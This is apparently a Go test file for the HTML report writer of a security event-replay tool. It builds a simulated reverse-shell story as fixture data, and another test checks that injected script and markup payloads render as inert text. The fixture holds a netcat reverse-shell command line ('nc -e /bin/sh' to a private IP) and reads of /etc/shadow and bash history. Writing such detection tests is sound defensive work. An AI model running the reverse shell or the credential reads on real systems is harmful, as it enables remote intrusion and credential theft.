package report

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"
)

// storyReport is a reverse shell's story: three dup2 alerts of one shell,
// each with its drill-down, a shadow read on a second host, and the story's
// tree with the detections pinned on their processes.
func storyReport() *Report {
	base := time.Date(2026, 11, 22, 20, 51, 37, 0, time.UTC)
	sh := Process{Pid: 4242, Name: "sh", Exe: "/usr/bin/sh", Cmdline: "sh -c nc -e /bin/sh 10.0.0.9 45555", User: "root", Start: base}
	r := &Report{
		Title:    "retrace replay: story",
		Captures: []CaptureInfo{{File: "web.scap.zst", Hostname: "web-01"}, {File: "db.scap.zst", Hostname: "db-01"}},
	}
	for i := range 3 {
		r.Detections = append(r.Detections, Detection{
			Time: base.Add(time.Duration(i) * time.Millisecond), Rule: "Reverse Shell Redirects STDIN/STDOUT", Priority: "Critical",
			Output: fmt.Sprintf("dup2 fd=%d", i), Hostname: "web-01", Capture: "web.scap.zst", EventNum: uint64(100 + i), Frame: 2,
			EventType: "dup2", Process: sh, Network: []string{"tcp 10.0.0.2:51234->10.0.0.9:45555"},
			Drill: &Drill{
				Before: []ContextEvent{{Num: uint64(99 + i), Line: fmt.Sprintf("%d sh connect 10.0.0.9:45555", 99+i)}},
				Event:  ContextEvent{Num: uint64(100 + i), Line: fmt.Sprintf("%d sh dup2 fd=%d", 100+i, i)},
				After:  []ContextEvent{{Num: uint64(120 + i), Line: "read id; uname -a"}},
				Next: []Step{
					{Activity: Activity{Time: base.Add(time.Second), Kind: "exec", Object: "id"}, Pid: 4250, Name: "id", Depth: 1},
					{Activity: Activity{Time: base.Add(2 * time.Second), Kind: "open-read", Object: "/etc/shadow"}, Pid: 4251, Name: "cat", Depth: 1},
					{Activity: Activity{Time: base.Add(3 * time.Second), Kind: "connect", Object: "tcp 10.0.0.2:51300->10.0.0.9:8080"}, Pid: 4242, Name: "sh"},
				},
				NextCut: 4,
			},
		})
	}
	r.Detections = append(r.Detections, Detection{
		Time: base.Add(5 * time.Second), Rule: "Read sensitive file untrusted", Priority: "Warning", Output: "cat /etc/shadow",
		Hostname: "db-01", Capture: "db.scap.zst", EventNum: 7, Frame: -1, EventType: "openat",
		Process: Process{Pid: 77, Name: "cat", Cmdline: "cat /etc/shadow", User: "root"}, Files: []string{"/etc/shadow"},
	})
	var files []Detection
	for i, f := range []string{"/etc/shadow", "/tmp/x", "/root/.bash_history"} {
		files = append(files, Detection{Time: base.Add(time.Duration(i) * time.Second), Rule: "file", Output: "cat[4251] " + f + ": read 1.0 KiB",
			Hostname: "web-01", Capture: "web.scap.zst", Frame: 2, EventNum: uint64(200 + i), Process: Process{Pid: 4251, Name: "cat"}})
	}
	r.Views = []ActivityView{{Name: "files", Findings: files}, {Name: "connections"}}
	r.Tree = []ProcessNode{{
		Process: Process{Pid: 1, Name: "systemd"}, Host: "web-01",
		Children: []ProcessNode{{Process: sh, Host: "web-01", Pins: []int{0, 1, 2}}},
	}, {
		Process: Process{Pid: 77, Name: "cat"}, Host: "db-01", Pins: []int{3},
	}}
	return r
}

func pageData(t *testing.T, page string) htmlData {
	t.Helper()
	m := regexp.MustCompile(`(?s)<script type="application/json" id="retrace-data">(.*?)</script>`).FindStringSubmatch(page)
	if m == nil {
		t.Fatal("no data block")
	}
	var data htmlData
	if err := json.Unmarshal([]byte(m[1]), &data); err != nil {
		t.Fatal(err)
	}
	return data
}

func TestHTMLStoryData(t *testing.T) {
	tests := []struct {
		name      string
		max       int
		embedded  int
		notice    string
		pins      []string
		wantGroup []int
	}{
		{name: "all embedded", embedded: 4, wantGroup: []int{0, 0, 0, 1},
			pins: []string{`data-i="0" title="Open the detection">Reverse Shell Redirects STDIN/STDOUT ×3<`, `data-i="3" title="Open the detection">Read sensitive file untrusted<`}},
		{name: "bound reached", max: 2, embedded: 2, wantGroup: []int{0, 0},
			notice: "This page holds the first 2 of 4 detections; 2 more are counted in the summary but not listed",
			pins:   []string{`data-i="0" title="Open the detection">Reverse Shell Redirects STDIN/STDOUT ×2<`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var b strings.Builder
			if err := WriteHTML(&b, storyReport(), Options{MaxDetections: tc.max}); err != nil {
				t.Fatal(err)
			}
			page := b.String()
			data := pageData(t, page)
			if data.Total != 4 || len(data.Detections) != tc.embedded {
				t.Fatalf("total %d, embedded %d; want 4 and %d", data.Total, len(data.Detections), tc.embedded)
			}
			for i, d := range data.Detections {
				if d.Group != tc.wantGroup[i] {
					t.Errorf("detection %d in group %d, want %d", i, d.Group, tc.wantGroup[i])
				}
			}
			d := data.Detections[0]
			if d.Drill == nil || d.Drill.Event != "100 sh dup2 fd=0" || len(d.Drill.Next) != 3 || d.Drill.Cut != 4 || d.Frame != 2 {
				t.Errorf("first detection's drill-down or frame lost: %+v frame %d", d.Drill, d.Frame)
			}
			if got := strings.Join(data.Hosts, ","); got != "web-01,db-01" {
				t.Errorf("hosts = %s", got)
			}
			if !strings.Contains(page, `<select id="host" aria-label="Host">`) {
				t.Error("no host filter on a report of two hosts")
			}
			if (tc.notice != "") != strings.Contains(page, `<div class="notice" role="note">`) || !strings.Contains(page, tc.notice) {
				t.Errorf("notice %q not shown as wanted", tc.notice)
			}
			if got := len(data.Views); got != 2 {
				t.Fatalf("%d views, want 2", got)
			}
			if v := data.Views[0]; v.Total != 3 || len(v.Rows) != min(3, tc.embedded) || v.Rows[0].Frame != 2 || v.Rows[0].Num != 200 || data.Captures[v.Rows[0].K] != "web.scap.zst" {
				t.Errorf("files view = %+v", v)
			}
			if !strings.Contains(page, `data-tab="view-0">files <span class="n">3</span></button>`) {
				t.Error("no tab for the files view")
			}
			if got := strings.Count(page, `<button type="button" class="pin `); got != len(tc.pins) {
				t.Errorf("%d pins, want %d", got, len(tc.pins))
			}
			for _, p := range tc.pins {
				if !strings.Contains(page, p) {
					t.Errorf("page lacks pin %s", p)
				}
			}
			if !strings.Contains(page, `<span class="hostname">host <b>db-01</b></span>`) {
				t.Error("tree of two hosts does not name them")
			}
			// The host filter finds each root's host by its index.
			for _, root := range []string{`data-host="0"><details open><summary><span class="pname">systemd`,
				`data-host="1"><details open><summary><span class="pname">cat`} {
				if !strings.Contains(page, root) {
					t.Errorf("page lacks the tree root %s", root)
				}
			}
		})
	}
}

// TestHTMLViewFindingsNotGrouped checks that a view's findings, each about
// another file, connection or command, keep a card each.
func TestHTMLViewFindingsNotGrouped(t *testing.T) {
	r := storyReport()
	r.View = "files"
	var b strings.Builder
	if err := WriteHTML(&b, r, Options{}); err != nil {
		t.Fatal(err)
	}
	seen := map[int]bool{}
	for _, d := range pageData(t, b.String()).Detections {
		if seen[d.Group] {
			t.Errorf("group %d holds two findings", d.Group)
		}
		seen[d.Group] = true
	}
}

// TestHTMLChromiumStory walks the story report as an analyst would: one
// card for the three alerts of one shell, its drill-down, the host lanes
// and filter (of the detections and of the tree), and the tree's pins
// leading to the detections.
func TestHTMLChromiumStory(t *testing.T) {
	t.Parallel()
	p := openCDPPage(t, "file://"+writeHTMLFile(t, storyReport(), nil))
	text := func(sel string) string {
		return p.evalString(fmt.Sprintf(`(function(){var e=document.querySelector(%q); return e ? e.textContent : "<none>"})()`, sel))
	}
	texts := func(sel string) string {
		return p.evalString(fmt.Sprintf(`Array.prototype.map.call(document.querySelectorAll(%q), function(e){return e.textContent}).join("|")`, sel))
	}
	if got, want := text("#count"), "4 detections in 2 cards"; got != want {
		t.Errorf("count = %q, want %q", got, want)
	}
	if got := text("article.det .times"); got != "×3" {
		t.Errorf("repeat count = %q, want ×3", got)
	}
	if got := p.evalString(`Array.prototype.map.call(document.querySelectorAll("#tl .lane-label"), function(e){return e.firstChild.textContent}).join("|")`); got != "web-01|db-01" {
		t.Errorf("timeline lanes = %q, want one per host", got)
	}

	// The drill-down: context with the event marked, what came next, and
	// the files and connections touched.
	p.eval(`document.querySelector("article.det details.drill").open = true`)
	for sel, want := range map[string]string{
		"article.det .ctx .ln.me":         "100 sh dup2 fd=0",
		"article.det ol.next li .obj":     "id",
		"article.det details.drill .none": "… 4 more not shown",
	} {
		if got := text(sel); got != want {
			t.Errorf("%s = %q, want %q", sel, got, want)
		}
	}
	if got := texts("article.det details.drill ul.objs li"); got != "/etc/shadow|tcp 10.0.0.2:51234->10.0.0.9:45555|tcp 10.0.0.2:51300->10.0.0.9:8080" {
		t.Errorf("touched = %q", got)
	}
	if got := text("article.det .facts"); got != "evt.num 100dup2web.scap.zstframe 2host web-01" {
		t.Errorf("facts = %q", got)
	}

	// Another occurrence of the group replaces the card's detail.
	p.eval(`document.querySelectorAll("ul.occs button")[1].click()`)
	p.waitFor(`document.querySelector("article.det.sel .ctx .ln.me") !== null && document.querySelector("article.det.sel .ctx .ln.me").textContent === "101 sh dup2 fd=1"`)
	if h := p.evalString(`location.hash`); !strings.Contains(h, "d=0%3A101") {
		t.Errorf("the open detection is not in the URL fragment: %q", h)
	}

	// The host filter keeps one host's detections.
	p.eval(`var s=document.getElementById("host"); s.value="1"; s.dispatchEvent(new Event("change"))`)
	p.waitFor(`document.getElementById("count").textContent === "Showing 1 of 4"`)
	if h := p.evalString(`location.hash`); !strings.Contains(h, "host=db-01") {
		t.Errorf("host filter not in the URL fragment: %q", h)
	}
	// ... and that host's processes of the tree, saying so above it; its
	// button shows every host's again.
	roots := func() string {
		return p.evalString(`Array.prototype.map.call(document.querySelectorAll("#ptree > li.node"), function(li){
			return li.querySelector(".pname").textContent + (getComputedStyle(li).display === "none" ? " (hidden)" : "")}).join("|")`)
	}
	p.eval(`document.querySelector("#tabs [data-tab=tree]").click()`)
	p.waitFor(`!document.getElementById("tab-tree").hidden`)
	if got, want := roots(), "systemd (hidden)|cat"; got != want {
		t.Errorf("tree roots with the host filter on db-01 = %q, want %q", got, want)
	}
	if got, want := text("#tree-host span"), "Host db-01 only (the host filter): 1 of 3 processes shown."; got != want || p.evalString(`String(document.getElementById("tree-host").hidden)`) != "false" {
		t.Errorf("tree notice = %q, want %q, shown", got, want)
	}
	p.eval(`document.querySelector("#tree-host button").click()`)
	p.waitFor(`document.getElementById("tree-host").hidden`)
	if got, want := roots(), "systemd|cat"; got != want {
		t.Errorf("tree roots after All hosts = %q, want %q", got, want)
	}
	if got := text("#count"); got != "4 detections in 2 cards" {
		t.Errorf("count after the tree's All hosts = %q, want every detection", got)
	}
	p.eval(`document.querySelector("#tabs [data-tab=detections]").click()`)
	p.eval(`document.getElementById("reset").click()`)

	// The tree tab; a pin opens its detection on the detections tab.
	p.eval(`document.querySelector("#tabs [data-tab=tree]").click()`)
	p.waitFor(`document.getElementById("tab-detections").hidden && !document.getElementById("tab-tree").hidden`)
	p.eval(`document.querySelector("button.pin[data-i='3']").click()`)
	p.waitFor(`!document.getElementById("tab-detections").hidden && document.querySelector("article.det.sel .rule") !== null`)
	if got := text("article.det.sel .rule"); got != "Read sensitive file untrusted" {
		t.Errorf("pin opened %q", got)
	}

	// An activity view's tab: rows with where each came from, filterable.
	p.eval(`document.querySelector("#tabs [data-tab=view-0]").click()`)
	p.waitFor(`document.querySelectorAll("#tab-view-0 table.rows tbody tr").length === 3`)
	if got := texts("#tab-view-0 tbody tr:first-child td"); got != "2026-11-22 20:51:37.000000|file|cat[4251]|cat[4251] /etc/shadow: read 1.0 KiB|web-01|web.scap.zst · frame 2 · 200" {
		t.Errorf("first row = %q", got)
	}
	p.eval(`var q=document.querySelector("#tab-view-0 input"); q.value="history"; q.dispatchEvent(new Event("input"))`)
	p.waitFor(`document.querySelectorAll("#tab-view-0 table.rows tbody tr").length === 1`)
	if h := p.evalString(`location.hash`); !strings.Contains(h, "tab=view-0") {
		t.Errorf("tab not in the URL fragment: %q", h)
	}

	// A link to a detection opens it, its drill-down unfolded.
	p.load("file://" + writeHTMLFile(t, storyReport(), nil) + "#tab=tree&d=0:102")
	p.waitFor(`document.querySelector("article.det.sel details.drill[open] .ctx .ln.me") !== null`)
	if got := text("article.det.sel details.drill .ctx .ln.me"); got != "102 sh dup2 fd=2" {
		t.Errorf("linked detection shows %q", got)
	}

	// A report without detections opens on its tree, not on an empty
	// dashboard.
	r := storyReport()
	r.Detections, r.View = nil, "tree"
	for i := range r.Tree {
		r.Tree[i].Pins = nil
		for j := range r.Tree[i].Children {
			r.Tree[i].Children[j].Pins = nil
		}
	}
	p.load("file://" + writeHTMLFile(t, r, nil))
	if got := p.evalString(`String(document.getElementById("tab-detections").hidden) + " " + String(document.getElementById("tab-tree").hidden)`); got != "true false" {
		t.Errorf("tree view opened with detections hidden, tree hidden = %s, want true false", got)
	}
}

// TestHTMLChromiumHostileStory opens every part of a story report whose
// captured strings are script and markup payloads (drill-down lines, next
// steps, view rows, notes, hosts, pins) and checks that none ran or
// became an element.
func TestHTMLChromiumHostileStory(t *testing.T) {
	t.Parallel()
	all := payloadScript + " " + payloadImg + " " + payloadBreak + " " + payloadSVG
	r := storyReport()
	r.Notes = []string{all}
	r.Captures[0].Notes = []string{all}
	for i := range r.Detections {
		d := &r.Detections[i]
		d.Rule += " " + payloadImg
		d.Hostname = payloadSVG + d.Hostname
		if d.Drill != nil {
			d.Drill.Before[0].Line = all
			d.Drill.Event.Line = all
			d.Drill.After[0].Line = all
			for j := range d.Drill.Next {
				d.Drill.Next[j].Name, d.Drill.Next[j].Kind, d.Drill.Next[j].Object = payloadImg, payloadScript, all
			}
		}
	}
	for i := range r.Views[0].Findings {
		f := &r.Views[0].Findings[i]
		f.Rule, f.Output, f.Process.Name, f.Hostname, f.Capture = payloadImg, all, payloadScript, payloadSVG, payloadBreak
	}
	r.Views[0].Name = payloadImg
	r.Tree[0].Host = payloadImg
	p := openCDPPage(t, "file://"+writeHTMLFile(t, r, nil))
	p.eval(`document.querySelectorAll("details").forEach(function(d){ d.open = true });
		document.querySelectorAll("ul.occs button").forEach(function(b){ b.click() });
		document.querySelectorAll("#tabs [data-tab]").forEach(function(b){ b.click() });
		document.querySelectorAll("details").forEach(function(d){ d.open = true })`)
	p.waitFor(`document.querySelectorAll("table.rows tbody tr").length === 3`)
	if got := p.evalString(`document.title`); strings.Contains(got, "pwned") {
		t.Fatalf("a payload ran: title %q", got)
	}
	counts := p.evalString(`[document.querySelectorAll("img").length, document.querySelectorAll("script").length, document.querySelectorAll("svg[onload]").length].join(",")`)
	if counts != "0,2,0" {
		t.Errorf("img, script, injected svg elements = %s, want 0,2,0", counts)
	}
	text := p.evalString(`document.querySelector("main").textContent`)
	for _, want := range []string{payloadScript, payloadImg, payloadBreak} {
		if strings.Count(text, want) < 3 {
			t.Errorf("payload %q shown as text fewer than 3 times", want)
		}
	}
}

// TestHTMLLeftCounted checks that detections a run no longer held (beyond
// --report-max) count in the summary and the notice.
func TestHTMLLeftCounted(t *testing.T) {
	r := storyReport()
	r.Detections = r.Detections[:1]
	for range 3 {
		r.Left.Add(&Detection{Rule: "Log File Cleared", Priority: "Warning", Hostname: "db-01", Time: r.Detections[0].Time.Add(time.Hour)})
	}
	var b strings.Builder
	if err := WriteHTML(&b, r, Options{MaxDetections: 1}); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	data := pageData(t, page)
	if data.Total != 4 || len(data.Detections) != 1 {
		t.Errorf("total %d, embedded %d; want 4 and 1", data.Total, len(data.Detections))
	}
	for _, want := range []string{`id="total">4<`, "This page holds the first 1 of 4 detections; 3 more are counted",
		`data-kind="rule" data-key="1"><td class="name"><span class="pill p4">Warning</span> Log File Cleared</td>`, "21:51:37.000"} {
		if !strings.Contains(page, want) {
			t.Errorf("page lacks %q", want)
		}
	}
	var tb strings.Builder
	r.Tree = nil // the tree's table would follow the summary
	if err := WriteTable(&tb, r, Options{MaxDetections: 1, Width: 200}); err != nil {
		t.Fatal(err)
	}
	if want := "4 detection(s), times in UTC on 2026-11-22; the table shows the first 1, 3 more rows left out (-o json has them all)\n"; !strings.HasSuffix(tb.String(), want) {
		t.Errorf("table summary: %q", tb.String()[max(0, tb.Len()-150):])
	}
}

// TestHTMLViewLeft checks that a view's tab counts the findings a bounded
// report left out beside those it embeds.
func TestHTMLViewLeft(t *testing.T) {
	for _, tc := range []struct {
		name                string
		left, max           int
		wantTotal, wantRows int
	}{
		{"all held", 0, 0, 3, 3},
		{"some left out", 5, 0, 8, 3},
		{"left out and beyond the page's bound", 5, 2, 8, 2},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := storyReport()
			r.Views[0].Left = tc.left
			var b strings.Builder
			if err := WriteHTML(&b, r, Options{MaxDetections: tc.max}); err != nil {
				t.Fatal(err)
			}
			v := pageData(t, b.String()).Views[0]
			if v.Total != tc.wantTotal || len(v.Rows) != tc.wantRows {
				t.Errorf("view total %d with %d rows, want %d with %d", v.Total, len(v.Rows), tc.wantTotal, tc.wantRows)
			}
			if tab := fmt.Sprintf(`data-tab="view-0">files <span class="n">%d</span></button>`, tc.wantTotal); !strings.Contains(b.String(), tab) {
				t.Errorf("page lacks the tab %s", tab)
			}
		})
	}
}
